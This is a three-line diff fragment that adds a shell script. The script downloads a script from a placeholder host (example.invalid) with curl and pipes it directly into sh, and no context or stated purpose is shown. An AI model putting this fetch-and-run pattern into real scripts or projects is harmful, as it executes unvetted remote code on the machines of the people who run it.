@@ -1,0 +1,3 @@
+#!/bin/sh
+U=https://example.invalid/s.sh
+curl -s $U | sh
